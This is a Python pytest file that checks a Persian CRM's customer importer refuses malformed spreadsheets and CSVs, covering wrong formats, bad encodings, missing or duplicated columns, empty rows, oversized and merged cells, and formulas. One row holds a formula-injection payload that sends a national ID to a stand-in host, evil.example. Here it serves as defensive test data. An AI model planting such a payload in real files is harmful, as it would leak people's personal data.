"""Malformed files: each gets a clear Persian message and changes nothing (issue #7, «Bad input»)."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from crm_desktop.persian.validators import make_national_id
from crm_desktop.services.importing import ImportFileError, ImportOptions, ImportService
from tests.conftest import World
from tests.services.importing.conftest import customers, import_journal
from tests.services.importing.generator import customer_rows, write_csv, write_xlsx

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
NID = make_national_id("002233445")


def refused_file(world: World, importer: ImportService, path: Path, db_path: Path,
                 options: ImportOptions | None = None) -> str:
    """The Persian message of a file refused as a whole, after checking that nothing was written."""
    options = options or ImportOptions()
    with pytest.raises(ImportFileError) as dry:
        importer.dry_run(world.clerk, path, options)
    with pytest.raises(ImportFileError) as run:
        importer.run(world.clerk, path, options)
    assert dry.value.message == run.value.message
    assert customers(db_path) == 0 and import_journal(db_path, path.name) == 0
    message = run.value.message
    assert any("\u0600" <= ch <= "\u06ff" for ch in message)
    return message


def test_a_png_renamed_xlsx_is_not_a_spreadsheet(world: World, importer: ImportService, db_path: Path,
                                                 tmp_path: Path) -> None:
    path = tmp_path / "customers.xlsx"
    path.write_bytes(PNG + bytes(range(256)) * 4)
    assert "صفحه‌گسترده نیست" in refused_file(world, importer, path, db_path)


def test_a_zip_that_is_not_a_workbook_and_an_old_xls(world: World, importer: ImportService, db_path: Path,
                                                     tmp_path: Path) -> None:
    path = tmp_path / "archive.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    assert "Excel سالم نیست" in refused_file(world, importer, path, db_path)
    old = tmp_path / "old.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    assert ".xlsx" in refused_file(world, importer, old, db_path)


def test_wrong_encoding_chosen_and_garbled_text(world: World, importer: ImportService, db_path: Path,
                                                tmp_path: Path) -> None:
    header, rows, _ = customer_rows(5, seed=4, excel_cells=False)
    path = write_csv(tmp_path / "arabic.csv", header, rows, encoding="cp1256")
    message = refused_file(world, importer, path, db_path, ImportOptions(encoding="utf-8"))
    assert "UTF-8" in message and "Windows-1256" in message
    garbled = tmp_path / "garbled.csv"
    text = "نام,نام خانوادگی,کد ملی\nعلی,کریمی,0012345678\nمریم,یزدانی,0012345679\n"
    garbled.write_text(text.encode("utf-8").decode("cp1252", errors="replace"), encoding="utf-8")
    assert "به هم ریخته" in refused_file(world, importer, garbled, db_path)


def test_empty_file_no_header_missing_and_duplicated_columns(world: World, importer: ImportService,
                                                             db_path: Path, tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    assert "خالی" in refused_file(world, importer, empty, db_path)
    no_header = write_xlsx(tmp_path / "no-header.xlsx", [NID, "علی", "کریمی"], [[NID, "مریم", "یزدانی"]])
    assert "سطر عنوان" in refused_file(world, importer, no_header, db_path)
    missing = write_xlsx(tmp_path / "missing.xlsx", ["نام", "نام خانوادگی", "تلفن همراه"],
                         [["علی", "کریمی", "09121234567"]])
    assert "کد ملی" in refused_file(world, importer, missing, db_path)
    twice = write_xlsx(tmp_path / "twice.xlsx", ["کد ملی", "نام", "نام خانوادگی", "كد ملي"],
                       [[NID, "علی", "کریمی", NID]])
    message = refused_file(world, importer, twice, db_path)
    assert "دو بار" in message and "A" in message and "D" in message
    synonyms = write_xlsx(tmp_path / "synonyms.xlsx", ["کد ملی", "نام", "نام خانوادگی", "National ID"],
                          [[NID, "علی", "کریمی", NID]])
    assert "هر دو" in refused_file(world, importer, synonyms, db_path)
    header_only = write_xlsx(tmp_path / "header-only.xlsx", ["کد ملی", "نام", "نام خانوادگی"], [])
    assert "سطر داده" in refused_file(world, importer, header_only, db_path)


def _sheet_with_empty_rows(path: Path, empty_rows: int, data_after: bool) -> Path:
    """A workbook whose sheet claims A1:C1048576 and holds a million formatted but empty rows."""
    head = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><dimension ref="A1:C1048576"/><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>کد ملی</t></is></c><c r="B1" t="inlineStr"><is><t>نام</t>'
            '</is></c><c r="C1" t="inlineStr"><is><t>نام خانوادگی</t></is></c></row>'
            f'<row r="2"><c r="A2" t="inlineStr"><is><t>{NID}</t></is></c><c r="B2" t="inlineStr"><is><t>علی</t>'
            '</is></c><c r="C2" t="inlineStr"><is><t>کریمی</t></is></c></row>')
    body = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(3, 3 + empty_rows))
    tail = ""
    if data_after:
        n = 3 + empty_rows
        tail = (f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{make_national_id("009988776")}</t></is></c>'
                f'<c r="B{n}" t="inlineStr"><is><t>مریم</t></is></c><c r="C{n}" t="inlineStr"><is><t>یزدانی</t>'
                '</is></c></row>')
    template = write_xlsx(path.with_suffix(".template.xlsx"), ["x"], [])
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = (head + body + tail + "</sheetData></worksheet>").encode()
            target.writestr(item, data)
    return path


def test_a_million_empty_rows_stop_quickly(world: World, importer: ImportService, db_path: Path,
                                           tmp_path: Path) -> None:
    path = _sheet_with_empty_rows(tmp_path / "formatted.xlsx", 1_000_000, data_after=True)
    started = time.perf_counter()
    summary = importer.run(world.clerk, path).value
    assert time.perf_counter() - started < 10
    assert summary.to_create == 1 and customers(db_path) == 1  # the row after the gap is not read
    assert any("سطر خالی" in note for note in summary.notes)
    csv_path = tmp_path / "blank.csv"
    csv_path.write_text("کد ملی,نام,نام خانوادگی\n" + ",,\n" * 1_000_000, encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(ImportFileError, match="سطر داده"):
        importer.run(world.clerk, csv_path)
    assert time.perf_counter() - started < 10 and customers(db_path) == 1


def test_huge_cells_formulas_and_merged_cells_refuse_their_rows(world: World, importer: ImportService,
                                                                db_path: Path, tmp_path: Path) -> None:
    ids = [make_national_id(f"00{i}556677") for i in range(1, 7)]
    rows = [
        [ids[0], "علی", "کریمی", "ساده"],
        [ids[1], "مریم", "یزدانی", "ب" * 40_000],
        [ids[2], '=HYPERLINK("http://evil.example/?"&A2,"علی")', "رحیمی", None],
        [ids[3], "سارا", "موسوی", "ادغام"],
        [ids[4], "نیما", "موسوی", None],
        [ids[5], "رضا", "حکیمی", None],
    ]
    path = tmp_path / "tricky.xlsx"  # openpyxl, not Excel: Excel itself cuts cells at 32,767 characters
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line in (["کد ملی", "نام", "نام خانوادگی", "نشانی"], *rows):
        sheet.append(line)
    sheet.merge_cells("D5:D6")
    book.save(path)
    plan = importer.dry_run(world.clerk, path)
    reasons = {line.row: line for line in plan.refused}
    assert plan.to_create == 2 and set(reasons) == {3, 4, 5, 6}
    assert "۳۲٬۷۶۷" in reasons[3].reason and reasons[3].column == "نشانی" and len(reasons[3].value) < 300
    assert "فرمول" in reasons[4].reason and reasons[4].value.startswith("=HYPERLINK")
    assert "ادغام" in reasons[5].reason and "ادغام" in reasons[6].reason
    importer.run(world.clerk, path, ImportOptions(all_or_nothing=False))
    assert customers(db_path) == 2

    big = tmp_path / "big-cell.csv"
    big.write_text(f"کد ملی,نام,نام خانوادگی\n{ids[0]},علی,{'ک' * 200_000}\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="نویسه"):
        importer.dry_run(world.clerk, big)
    formula = write_csv(tmp_path / "formula.csv", ["کد ملی", "نام", "نام خانوادگی"], [[ids[0], "=1+2", "کریمی"]])
    plan = importer.dry_run(world.clerk, formula)
    assert plan.refused_rows == 1 and "فرمول" in plan.refused[0].reason
